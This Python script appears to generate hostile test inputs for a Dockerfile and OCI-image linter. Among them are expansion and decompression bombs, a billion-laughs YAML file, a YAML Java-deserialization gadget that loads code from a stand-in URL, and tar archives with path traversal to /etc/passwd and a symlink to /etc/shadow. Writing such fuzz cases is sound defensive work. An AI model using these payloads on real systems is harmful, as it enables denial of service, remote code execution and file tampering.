#!/usr/bin/env python3
"""Generates the hostile inputs of issue 21 (Dockerfiles, configs, images) into OUTDIR.

usage: hostile_gen.py OUTDIR [full|small]

Writes one input per case and OUTDIR/cases.tsv with one line per case: name, then the dlint arguments
(tab-separated, paths relative to OUTDIR). "full" is the size the issue measured; "small" is a size that runs in
well under a second, for a quick look. Deterministic: no randomness, no timestamps. Files that already exist with
the same parameters are kept (the 8 GB gzip bomb takes a while to compress).
"""
import gzip, hashlib, io, json, os, stat, sys, tarfile, zlib

out = sys.argv[1]
scale = sys.argv[2] if len(sys.argv) > 2 else "full"
FULL = scale == "full"
os.makedirs(out, exist_ok=True)
cases = []


def n(full, small):
    return full if FULL else small


def write(name, data):
    path = os.path.join(out, name)
    if isinstance(data, str):
        data = data.encode()
    with open(path, "wb") as f:
        f.write(data)
    return name


def dockerfile(case, text):
    cases.append((case, ["lint", "--no-fail", write(case + ".Dockerfile", text)]))


def lines(gen):
    return "".join(line + "\n" for line in gen)


# --- cost per instruction -------------------------------------------------------------------------------------
N = n(100_000, 2_000)
dockerfile("unknown-instructions", "FROM alpine\n" + lines(f"FOO{i} x" for i in range(N)))
dockerfile("args-before-from", lines(f"ARG A{i}=v{i}" for i in range(N)) + "FROM alpine\nRUN echo $A1\n")
dockerfile("chained-env", "FROM alpine\nENV A0=x\n" + lines(f"ENV A{i}=$A{i - 1}" for i in range(1, N)))
dockerfile("stages", lines(f"FROM alpine AS s{i}" for i in range(N)))
C = n(20_000, 500)
dockerfile("copy-from-chain", "FROM alpine AS s0\n" + lines(
    f"FROM s{i - 1} AS s{i}\nCOPY --from=s{i - 1} /a /a" for i in range(1, C)))
dockerfile("run-bogus-flag", "FROM alpine\n" + lines("RUN --bogus x" for _ in range(N)))
dockerfile("plain-runs", "FROM alpine\n" + lines(f"RUN echo {i}" for i in range(N)))

# --- expansion bombs: 30 doublings of one byte give a 2^30-byte value ----------------------------------------
LEVELS = n(30, 30)  # the size limit must stop it at any scale
chain = "ARG A0=x\n" + lines(f"ARG A{i}=${{A{i - 1}}}${{A{i - 1}}}" for i in range(1, LEVELS + 1))
top = f"$A{LEVELS}"
dockerfile("bomb-from", chain + f"FROM alpine:{top}\n")
dockerfile("bomb-run", chain + f"FROM alpine\nARG A{LEVELS}\nRUN echo {top}\n")
dockerfile("bomb-copy-from", chain + f"FROM alpine\nCOPY --from={top} /a /b\n")
dockerfile("bomb-label", "FROM alpine\n" + chain + f"LABEL x={top}\n")
dockerfile("bomb-workdir", "FROM alpine\n" + chain + f"WORKDIR /{top}\n")
dockerfile("bomb-env", "FROM alpine\nENV A0=x\n" + lines(f"ENV A{i}=${{A{i - 1}}}${{A{i - 1}}}" for i in range(1, LEVELS + 1)))
# ${x//a/$x} replaces every 'a' by the whole value: the length squares each time
dockerfile("bomb-replace", "FROM alpine\nENV x=aa\n" + lines("ENV x=${x//a/$x}" for _ in range(6)) + "RUN echo $x\n")

# --- size ----------------------------------------------------------------------------------------------------
dockerfile("newlines", "FROM alpine\n" + "\n" * n(10_000_000, 100_000) + "RUN echo end\n")
dockerfile("unterminated-heredoc", "FROM alpine\nRUN <<EOF\n" + lines(f"echo {i}" for i in range(n(500_000, 5_000))))
H = n(10_000, 200)
dockerfile("heredoc-markers", "FROM alpine\nRUN cat " + " ".join(f"<<E{i}" for i in range(H)) + "\n"
           + lines(f"body {i}\nE{i}" for i in range(H)))
dockerfile("rm-wildcards", "FROM alpine\nRUN apt-get update && apt-get install -y curl\nRUN rm -rf /var/lib/apt/lists/"
           + "*a" * n(5_000, 200) + "b\n")
dockerfile("long-line", "FROM alpine\nRUN echo " + "x" * n(50_000_000, 100_000) + "\n")
dockerfile("nul-bytes", "FROM alpine\nRUN echo a\0b\0c\n" + "\0" * n(1_000_000, 1_000) + "\n")
dockerfile("utf16", "FROM alpine\nRUN echo hi\n".encode("utf-16"))
dockerfile("utf32", "FROM alpine\nRUN echo hi\n".encode("utf-32"))
dockerfile("cr-only", "FROM alpine\rRUN echo hi\r" * n(100_000, 100))

# --- nesting -------------------------------------------------------------------------------------------------
D = 201
dockerfile("deep-cmdsubst-cleanup", "FROM debian\nRUN apt-get update && apt-get install -y curl\nRUN echo "
           + "$(" * D + "true" + ")" * D + " && rm -rf /var/lib/apt/lists/*\n")
dockerfile("deep-cmdsubst", "FROM alpine\nRUN echo " + "$(" * n(10_000, 300) + "x" + ")" * n(10_000, 300) + "\n")
dockerfile("deep-param", "FROM alpine\nRUN echo " + "${a:-" * n(10_000, 300) + "x" + "}" * n(10_000, 300) + "\n")
dockerfile("deep-arith", "FROM alpine\nRUN echo $((" + "(" * n(10_000, 300) + "1" + ")" * n(10_000, 300) + "))\n")
dockerfile("deep-subshell", "FROM alpine\nRUN " + "(" * n(10_000, 300) + "true" + ")" * n(10_000, 300) + "\n")
dockerfile("brace-bomb", "FROM alpine\nRUN echo " + "{a,b}" * n(64, 20) + "\n")

# --- configs -------------------------------------------------------------------------------------------------
ok = write("ok.Dockerfile", "FROM alpine:3.19\nRUN echo hi\n")
cases.append(("config-dev-zero", ["lint", "--no-fail", "-c", "/dev/zero", ok]))
cases.append(("config-dev-urandom", ["lint", "--no-fail", "-c", "/dev/urandom", ok]))
fifo = os.path.join(out, "config.fifo")
if not os.path.exists(fifo):
    os.mkfifo(fifo)
cases.append(("config-fifo", ["lint", "--no-fail", "-c", "config.fifo", ok]))
cases.append(("dockerfile-dev-zero", ["lint", "--no-fail", "/dev/zero"]))
dfifo = os.path.join(out, "dockerfile.fifo")
if not os.path.exists(dfifo):
    os.mkfifo(dfifo)
cases.append(("dockerfile-fifo", ["lint", "--no-fail", "dockerfile.fifo"]))
laughs = "a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n"
prev = "a"
for c in "bcdefghi":
    laughs += f"{c}: &{c} [" + ",".join(f"*{prev}" for _ in range(9)) + "]\n"
    prev = c
laughs += "ignore: *i\n"
cases.append(("config-billion-laughs", ["lint", "--no-fail", "-c", write("laughs.yaml", laughs), ok]))
cases.append(("config-java-tag", ["lint", "--no-fail", "-c", write("javatag.yaml",
    "ignore: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x/\"]]]]\n"),
    ok]))


# --- images --------------------------------------------------------------------------------------------------
def sha(data):
    return hashlib.sha256(data).hexdigest()


def tar_bytes(members):
    """members: list of (TarInfo, bytes or None)."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as t:
        for info, data in members:
            t.addfile(info, io.BytesIO(data) if data is not None else None)
    return buf.getvalue()


def file_info(name, size, mode=0o644):
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.mode = mode
    ti.mtime = 0
    return ti


def small_layer(tag):
    return tar_bytes([(file_info(f"{tag}/f{i}", 100), bytes([65 + i % 26]) * 100) for i in range(20)])


class Oci:
    """An OCI image layout: blobs plus index.json, written as a tar archive or a directory."""

    def __init__(self):
        self.blobs = {}

    def blob(self, data):
        digest = sha(data)
        self.blobs[digest] = data
        return digest

    def desc(self, media, data, **extra):
        d = {"mediaType": media, "digest": "sha256:" + self.blob(data), "size": len(data)}
        d.update(extra)
        return d

    def image(self, layers, diff_ids=None, layer_media="application/vnd.oci.image.layer.v1.tar"):
        """layers: list of (stored bytes, diff_id hex); returns the manifest descriptor."""
        config = json.dumps({"architecture": "amd64", "os": "linux",
                             "rootfs": {"type": "layers", "diff_ids": ["sha256:" + d for _, d in layers]},
                             "history": [{"created_by": "layer"} for _ in layers]}).encode()
        manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                               "config": self.desc("application/vnd.oci.image.config.v1+json", config),
                               "layers": [self.desc(layer_media, b) for b, _ in layers]}).encode()
        return self.desc("application/vnd.oci.image.manifest.v1+json", manifest,
                         platform={"architecture": "amd64", "os": "linux"})

    def index_json(self, manifests):
        return json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json",
                           "manifests": manifests}).encode()

    def write_tar(self, name, manifests):
        path = os.path.join(out, name)
        with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as t:
            def add(member, data):
                t.addfile(file_info(member, len(data)), io.BytesIO(data))
            add("oci-layout", b'{"imageLayoutVersion":"1.0.0"}')
            add("index.json", self.index_json(manifests))
            for digest, data in self.blobs.items():
                if isinstance(data, str):  # a file already on disk
                    t.add(data, arcname=f"blobs/sha256/{digest}")
                else:
                    add(f"blobs/sha256/{digest}", data)
        return name

    def write_dir(self, name, manifests):
        root = os.path.join(out, name)
        os.makedirs(os.path.join(root, "blobs", "sha256"), exist_ok=True)
        with open(os.path.join(root, "oci-layout"), "wb") as f:
            f.write(b'{"imageLayoutVersion":"1.0.0"}')
        with open(os.path.join(root, "index.json"), "wb") as f:
            f.write(self.index_json(manifests))
        for digest, data in self.blobs.items():
            with open(os.path.join(root, "blobs", "sha256", digest), "wb") as f:
                f.write(data)
        return name


def image_case(case, path):
    cases.append((case, ["image", "--no-fail", path]))


# an index whose entries are indexes whose entries are the same index, nested: FAN^DEPTH paths to one manifest
oci = Oci()
layer = small_layer("fan")
node = oci.image([(layer, sha(layer))])
FAN, DEPTH = n(10, 4), n(12, 4)
for level in range(DEPTH):
    child = oci.index_json([node] * FAN)
    node = oci.desc("application/vnd.oci.image.index.v1+json", child)
image_case("index-fan-out", oci.write_tar("index-fan-out.tar", [node]))

# an index listing many manifests
oci = Oci()
layer = small_layer("many")
image_case("index-many-manifests", oci.write_tar("index-many-manifests.tar",
                                                 [oci.image([(layer, sha(layer))])] * n(100_000, 1_000)))

# the same layer listed 10,000 times
oci = Oci()
layer = small_layer("same")
image_case("same-layer-repeated", oci.write_tar("same-layer-repeated.tar",
                                                [oci.image([(layer, sha(layer))] * n(10_000, 200))]))


def raw_header(name, size, typeflag):
    """A ustar header block for a member whose size field may lie (PAX records, sparse maps)."""
    ti = tarfile.TarInfo(name)
    ti.size = size
    ti.type = typeflag
    ti.mtime = 0
    return ti.tobuf(format=tarfile.USTAR_FORMAT)


def pax_records(records):
    body = b""
    for key, value in records:
        payload = f" {key}={value}\n".encode()
        length = len(payload) + 1
        while len(str(length)) + len(payload) != length:
            length = len(str(length)) + len(payload)
        body += str(length).encode() + payload
    return body


def pad(data):
    return data + b"\0" * (-len(data) % 512)


def gzip_stream(chunks):
    co = zlib.compressobj(6, zlib.DEFLATED, 31)
    for chunk in chunks:
        yield co.compress(chunk)
    yield co.flush()


def gz_layer(raw_chunks):
    """(stored gzip bytes, diff_id) of a layer given as chunks of its tar."""
    h = hashlib.sha256()

    def hashed():
        for c in raw_chunks:
            h.update(c)
            yield c
    stored = b"".join(gzip_stream(hashed()))
    return stored, h.hexdigest()


# a PAX global header of 1 GiB of records, gzip-compressed
PAX = n(1 << 30, 1 << 20)
record = pax_records([("comment", "x" * 90)])
def pax_bomb():
    count = PAX // len(record)
    yield raw_header("pax_global_header", count * len(record), tarfile.XGLTYPE)
    chunk = record * 10_000
    left = count
    while left:
        k = min(left, 10_000)
        yield chunk if k == 10_000 else record * k
        left -= k
    yield b"\0" * (-(count * len(record)) % 512)
    yield small_layer("after-pax")
oci = Oci()
stored, diff = gz_layer(pax_bomb())
image_case("pax-global-bomb", oci.write_tar("pax-global-bomb.tar",
                                            [oci.image([(stored, diff)], layer_media="application/vnd.oci.image.layer.v1.tar+gzip")]))

# a million tiny PAX global headers
def many_globals():
    one = raw_header("pax_global_header", len(record), tarfile.XGLTYPE) + pad(record)
    for _ in range(n(1_000_000, 10_000) // 1000):
        yield one * 1000
    yield small_layer("after-globals")
oci = Oci()
stored, diff = gz_layer(many_globals())
image_case("pax-many-globals", oci.write_tar("pax-many-globals.tar",
                                             [oci.image([(stored, diff)], layer_media="application/vnd.oci.image.layer.v1.tar+gzip")]))

# many entries in one layer
def many_entries():
    E = n(2_000_000, 20_000)
    for start in range(0, E, 10_000):
        yield b"".join(raw_header(f"d/{i}", 0, tarfile.REGTYPE) for i in range(start, min(E, start + 10_000)))
    yield b"\0" * 1024
oci = Oci()
stored, diff = gz_layer(many_entries())
image_case("entries-per-layer", oci.write_tar("entries-per-layer.tar",
                                              [oci.image([(stored, diff)], layer_media="application/vnd.oci.image.layer.v1.tar+gzip")]))

# a gzip layer of 8 GB of zeros (one file), then a second, ordinary layer
ZEROS = n(8 * 10**9, 64 << 20)
bomb_path = os.path.join(out, f"zeros-{ZEROS}.tar.gz")
meta = bomb_path + ".diffid"
if not (os.path.exists(bomb_path) and os.path.exists(meta)):
    def zeros():
        yield raw_header("zeros", ZEROS, tarfile.REGTYPE)
        block = b"\0" * (16 << 20)
        left = ZEROS
        while left:
            k = min(left, len(block))
            yield block if k == len(block) else b"\0" * k
            left -= k
        yield b"\0" * 1024
    h = hashlib.sha256()
    with open(bomb_path + ".part", "wb") as f:
        def hashed():
            for c in zeros():
                h.update(c)
                yield c
        for piece in gzip_stream(hashed()):
            f.write(piece)
    os.rename(bomb_path + ".part", bomb_path)
    with open(meta, "w") as f:
        f.write(h.hexdigest())
with open(meta) as f:
    bomb_diff = f.read().strip()
oci = Oci()
bomb_digest = hashlib.sha256()
with open(bomb_path, "rb") as f:
    for chunk in iter(lambda: f.read(1 << 20), b""):
        bomb_digest.update(chunk)
oci.blobs[bomb_digest.hexdigest()] = bomb_path
size = os.path.getsize(bomb_path)
second = small_layer("second")
config = json.dumps({"architecture": "amd64", "os": "linux",
                     "rootfs": {"type": "layers", "diff_ids": ["sha256:" + bomb_diff, "sha256:" + sha(second)]},
                     "history": [{"created_by": "zeros"}, {"created_by": "second"}]}).encode()
manifest = json.dumps({"schemaVersion": 2, "mediaType": "application/vnd.oci.image.manifest.v1+json",
                       "config": oci.desc("application/vnd.oci.image.config.v1+json", config),
                       "layers": [{"mediaType": "application/vnd.oci.image.layer.v1.tar+gzip",
                                   "digest": "sha256:" + bomb_digest.hexdigest(), "size": size},
                                  oci.desc("application/vnd.oci.image.layer.v1.tar", second)]}).encode()
image_case("gzip-zeros-bomb", oci.write_tar("gzip-zeros-bomb.tar",
                                            [oci.desc("application/vnd.oci.image.manifest.v1+json", manifest)]))

# OCI directories whose layer declares 100 GB: a PAX size record on a short member, and a sparse file
HUGE = 100 * 10**9
lie = raw_header("././@PaxHeader", len(pax_records([("size", HUGE)])), tarfile.XHDTYPE) \
    + pad(pax_records([("size", HUGE)])) + raw_header("huge", 0, tarfile.REGTYPE) + pad(b"y" * 100) + b"\0" * 1024
oci = Oci()
image_case("pax-size-100g-dir", oci.write_dir("pax-size-100g.oci", [oci.image([(lie, sha(lie))])]))

sparse_map = pad(f"1\n{HUGE - 100}\n100\n".encode())
records = pax_records([("GNU.sparse.major", 1), ("GNU.sparse.minor", 0), ("GNU.sparse.name", "sparse"),
                       ("GNU.sparse.realsize", HUGE)])
sparse = raw_header("././@PaxHeader", len(records), tarfile.XHDTYPE) + pad(records) \
    + raw_header("GNUSparseFile.0/sparse", len(sparse_map) + 100, tarfile.REGTYPE) + sparse_map + pad(b"z" * 100) \
    + b"\0" * 1024
oci = Oci()
image_case("sparse-100g-dir", oci.write_dir("sparse-100g.oci", [oci.image([(sparse, sha(sparse))])]))

# path traversal and a symlink out of the tree
trav = tar_bytes([(file_info("../../etc/passwd", 4), b"root")])
oci = Oci()
image_case("tar-path-traversal", oci.write_tar("tar-path-traversal.tar", [oci.image([(trav, sha(trav))])]))
link = tarfile.TarInfo("etc/evil")
link.type = tarfile.SYMTYPE
link.linkname = "../../../../etc/shadow"
links = tar_bytes([(link, None), (file_info("etc/evil/x", 3), b"abc")])
oci = Oci()
image_case("tar-symlink-out", oci.write_tar("tar-symlink-out.tar", [oci.image([(links, sha(links))])]))

with open(os.path.join(out, "cases.tsv"), "w") as f:
    for name, args in cases:
        f.write("\t".join([name] + args) + "\n")
print(f"{len(cases)} cases in {out}/cases.tsv ({scale})")
